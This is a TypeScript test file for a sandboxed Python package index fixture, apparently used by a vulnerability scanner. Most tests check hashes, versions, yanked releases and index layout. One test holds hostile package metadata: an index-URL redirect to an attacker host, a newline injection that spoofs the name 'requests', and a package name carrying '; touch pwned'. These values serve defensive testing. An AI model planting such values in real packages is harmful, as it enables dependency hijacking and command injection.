import { createHash } from "node:crypto";
import { mkdtempSync, readdirSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { buffer } from "node:stream/consumers";
import { pathToFileURL } from "node:url";
import { unzipSync } from "fflate";
import { parseFilename } from "../../../../sandbox/index/filename";
import { hermeticIndex, writeIndexTree, type HermeticIndex } from "../../../../sandbox/index/hermetic";
import { machineIndex } from "../../../../sandbox/index/machine-index";
import type { IndexFile, IndexProject } from "../../../../sandbox/index/public-index";
import { AdvisoryDatabase, loadAdvisories } from "../../../../sandbox/snyk/advisories";

let index: HermeticIndex;
beforeAll(async () => {
  index = await hermeticIndex();
});
const project = async (name: string): Promise<IndexProject> => {
  const found = await index.project(name);
  if (found === undefined) throw new Error(`no ${name}`);
  return found;
};
const bytes = async (file: IndexFile): Promise<Buffer> => buffer(await index.open(file));
const small = (names: readonly string[]) => names.filter((name) => !/^sandbox-(bulk|many|hostile-huge)/.test(name));

test("every file has the name, hash and size that the index says, and a version that its name says", async () => {
  let files = 0;
  for (const name of small(index.names)) {
    for (const file of (await project(name)).files) {
      const content = await bytes(file);
      expect(parseFilename(file.filename, name)?.version).toBe(file.version);
      expect([file.size, file.sha256]).toEqual([content.length, createHash("sha256").update(content).digest("hex")]);
      files += 1;
    }
  }
  expect(files).toBeGreaterThan(130);
});

test("files have the same bytes on every run", async () => {
  const again = await hermeticIndex();
  for (const name of ["sandbox-leaf", "sandbox-source-only", "requests"]) {
    expect((await again.project(name))?.files.map((file) => file.sha256)).toEqual((await project(name)).files.map((file) => file.sha256));
  }
});

test("a wheel's RECORD lists each of its files with its hash", async () => {
  const [wheel] = (await project("sandbox-extras")).files;
  const entries = unzipSync(await bytes(wheel!));
  const record = new TextDecoder().decode(entries["sandbox_extras-1.0.dist-info/RECORD"]).trim().split("\n");
  const expected = Object.entries(entries).map(([path, content]) =>
    path.endsWith("RECORD") ? `${path},,` : `${path},sha256=${createHash("sha256").update(content).digest("base64url")},${content.length}`,
  );
  expect(record).toEqual(expected);
});

test("packages, versions, depth and dependencies exceed one page of any listing", async () => {
  expect(index.names.filter((name) => name.startsWith("sandbox-bulk-"))).toHaveLength(1200);
  expect((await project("sandbox-many-versions")).files).toHaveLength(1100);
  expect(await (await project("sandbox-chain-48")).files[0]?.metadata()).toContain("Requires-Dist: sandbox-chain-49>=1.0\n");
  expect((await (await project("sandbox-hostile-huge")).files[0]?.metadata())?.match(/^Requires-Dist:/gm)).toHaveLength(5000);
});

test("some releases do not install: Python 2, a future Python, Windows, source only", async () => {
  const shape = async (name: string) => (await project(name)).files.map((file) => [file.filename, file.requiresPython]);
  expect(await shape("sandbox-python2-only")).toEqual([["sandbox_python2_only-1.0-py2-none-any.whl", "<3"]]);
  expect(await shape("sandbox-future-only")).toEqual([["sandbox_future_only-1.0-py3-none-any.whl", ">=4.0"]]);
  expect(await shape("sandbox-windows-only")).toEqual([
    ["sandbox_windows_only-1.0-cp311-cp311-win_amd64.whl", undefined],
    ["sandbox_windows_only-1.0-cp312-cp312-win_amd64.whl", undefined],
  ]);
  expect(await shape("sandbox-source-only")).toEqual([["sandbox_source_only-0.3.tar.gz", undefined]]);
});

test("releases are yanked with a reason, yanked without one, or not yanked", async () => {
  expect((await project("sandbox-yanked")).files.map((file) => [file.version, file.yanked])).toEqual([
    ["1.0", false],
    ["1.1", "breaks start-up, use 1.0"],
    ["1.2", ""],
  ]);
});

test("the last upload is not the highest version", async () => {
  const files = [...(await project("sandbox-versions")).files].sort((a, b) => (a.uploadTime ?? "").localeCompare(b.uploadTime ?? ""));
  expect(files.map((file) => file.version)).toEqual(["0.9.dev1", "1.0a1", "1.0rc1", "1.0", "1.0.post1", "1.0+local.1", "1!0.1", "1.0.1"]);
});

test("hostile metadata arrives as the attacker wrote it", async () => {
  const metadata = (name: string) => project(name).then(({ files }) => files[0]?.metadata());
  expect(await metadata("sandbox-hostile-requires")).toContain("\nRequires-Dist: --index-url=https://attacker.invalid/simple\n");
  expect(await metadata("sandbox-hostile-newline")).toContain("\nRequires-Dist: sandbox-injected==6.6.6\nName: requests\n");
  expect(await metadata("sandbox-hostile-name")).toContain("\nName: sandbox-hostile-name; touch pwned\n");
  expect(await metadata("sandbox-hostile-no-metadata")).toMatch(/^Metadata-Version: 2.1\n\nThis is a body/);
});

test("the index has an affected release for each advisory, so that a scan finds something without a network", async () => {
  const advisories = loadAdvisories();
  const database = new AdvisoryDatabase(advisories);
  const isAffected = async (name: string) => (await project(name)).files.some((file) => database.affecting(name, file.version).length > 0);
  const packages = [...new Set(advisories.map((each) => each.package))];
  expect(await Promise.all(packages.map(isAffected))).toEqual(packages.map(() => true));
});

test("a PEP 503 tree reads back as the same index, metadata from inside the wheels included", async () => {
  const folder = mkdtempSync(join(tmpdir(), "tree-"));
  try {
    const names = ["sandbox-hostile-files", "sandbox-hostile-html", "sandbox-leaf", "sandbox-versions", "sandbox-yanked", "unknown"];
    await writeIndexTree(index, names, folder);
    expect(readdirSync(join(folder, "simple")).sort()).toEqual(["index.html", ...names.slice(0, -1)]);
    const read = await machineIndex([{ kind: "index", url: pathToFileURL(join(folder, "simple/")).href }]);
    for (const name of names.slice(0, -1)) {
      const expected = await project(name);
      const actual = await read.project(name);
      // An HTML page has no way to say "not yanked".
      expect(actual?.files.map(facts)).toEqual(expected.files.map(facts));
      const texts = (of: IndexProject) => Promise.all(of.files.map((file) => file.metadata()));
      expect(await texts(actual!)).toEqual(await texts(expected));
    }
  } finally {
    rmSync(folder, { recursive: true });
  }
});

test("metadata files beside the wheels, on request", async () => {
  const folder = mkdtempSync(join(tmpdir(), "tree-"));
  try {
    await writeIndexTree(index, ["sandbox-leaf"], folder, { metadataFiles: true });
    expect(readdirSync(join(folder, "files")).sort()).toEqual([
      "sandbox_leaf-1.0-py3-none-any.whl",
      "sandbox_leaf-1.0-py3-none-any.whl.metadata",
      "sandbox_leaf-2.0-py3-none-any.whl",
      "sandbox_leaf-2.0-py3-none-any.whl.metadata",
      "sandbox_leaf-2.0.tar.gz",
    ]);
  } finally {
    rmSync(folder, { recursive: true });
  }
});

function facts(file: IndexFile) {
  return [file.filename, file.version, file.sha256, file.requiresPython, file.yanked === false ? undefined : file.yanked];
}
